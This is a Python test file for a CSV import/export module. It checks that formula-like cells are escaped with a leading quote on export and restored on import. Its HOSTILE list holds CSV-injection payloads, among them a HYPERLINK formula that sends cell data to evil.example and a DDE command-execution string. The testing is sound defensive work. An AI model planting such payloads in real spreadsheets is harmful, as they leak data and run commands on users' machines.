"""Formula cells: stored verbatim, escaped with a leading ' on export, unescaped on import."""

from __future__ import annotations

import csv
import dataclasses
import io
import math
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from matcher import Case, Community, load_case, write_case
from matcher.io import escape_cell, unescape_cell
from matcher.io.cells import FORMULA_START
from tests.casefiles import write_case as write_files

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=SUM(1)",  # already escaped by hand: must not lose or gain a quote
    "''",
    "'",
    "'t Hooft",
    "=",
    "a=b",
    "张三=李四",
]


def _round_trip_ok(value: str) -> bool:
    """Values a CSV cell can carry: surrounding whitespace is trimmed on import, except
    a leading tab or CR, which the escape protects; a NUL is refused (no text holds one)."""
    if "\x00" in value:
        return False
    return value == value.rstrip() and (value[:1] in "\t\r" or value == value.lstrip())


@given(st.text())
def test_unescape_undoes_escape(value: str) -> None:
    assert unescape_cell(escape_cell(value)) == value
    assert escape_cell(value)[:1] not in FORMULA_START


@pytest.mark.parametrize("cell", ["plain", "'t Hooft", "", "'", "-3.5"])
def test_unescape_leaves_other_cells_alone(cell: str) -> None:
    assert unescape_cell(cell) == cell


def _hostile_case(tmp_path: Path, names: list[str]) -> tuple[Path, Case]:
    case = load_case(write_files(tmp_path / "src"))
    comms = (
        *case.communities,
        Community("C9", names[0], names[-1], -3.5, -60.25),
    )
    cadres = tuple(
        dataclasses.replace(case.cadres[k % len(case.cadres)], id=f"H{k}", name=name)
        for k, name in enumerate(names)
    )
    demands = tuple(
        dataclasses.replace(case.demands[k % len(case.demands)], id=f"E{k}", title=name)
        for k, name in enumerate(names)
    )
    hostile = dataclasses.replace(case, communities=comms, cadres=cadres, demands=demands)
    return write_case(hostile, tmp_path / "out"), hostile


def test_hostile_names_round_trip_and_export_no_formula_cell(tmp_path: Path) -> None:
    out, hostile = _hostile_case(tmp_path, HOSTILE)
    for name in ("communities.csv", "cadres.csv", "demands.csv"):
        with (out / name).open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        for row in rows:
            for cell in row:
                if cell in ("-3.5", "-60.25"):
                    continue  # a number column stays a number
                assert cell[:1] not in FORMULA_START, (name, row)
    text = (out / "communities.csv").read_text(encoding="utf-8")
    assert ",-3.5,-60.25\n" in text
    again = load_case(out)
    assert again.cadres == hostile.cadres
    assert again.demands == hostile.demands
    assert again.communities == hostile.communities
    assert again.communities[-1].lat == -3.5 and math.isclose(again.communities[-1].lon, -60.25)


@given(st.lists(st.text(min_size=1).filter(_round_trip_ok), min_size=1, max_size=4))
def test_any_name_round_trips(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    tmp = tmp_path_factory.mktemp("rt")
    out, hostile = _hostile_case(tmp, names)
    again = load_case(out)
    assert [c.name for c in again.cadres] == names
    assert [d.title for d in again.demands] == names
    assert again.communities == hostile.communities


def test_hand_escaped_cell_is_read_as_its_value(tmp_path: Path) -> None:
    from tests.casefiles import CADRES

    write_files(tmp_path, cadres=CADRES.replace("张三", "'=SUM(1)"))
    assert load_case(tmp_path).cadres[0].name == "=SUM(1)"


def test_proposal_csv_escapes_text_cells(sample_case, sample_proposal) -> None:  # type: ignore[no-untyped-def]
    from dataclasses import replace

    from matcher.cli.plan import plan_csv

    first = sample_proposal.assignments[0]
    case = replace(
        sample_case,
        demands=tuple(
            replace(d, title="=cmd|x") if d.id == first.demand else d for d in sample_case.demands
        ),
        cadres=tuple(
            replace(c, name="@y") if c.id == first.cadre else c for c in sample_case.cadres
        ),
    )
    p = sample_proposal.model_copy(update={"assignments": [first]})
    rows = list(csv.DictReader(io.StringIO(plan_csv(p, case))))
    assert rows[0]["title"] == "'=cmd|x" and rows[0]["cadre_name"] == "'@y"
    for row in rows:  # the unfilled rows' reasons too
        assert all(cell[:1] not in FORMULA_START or _is_number(cell) for cell in row.values())


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
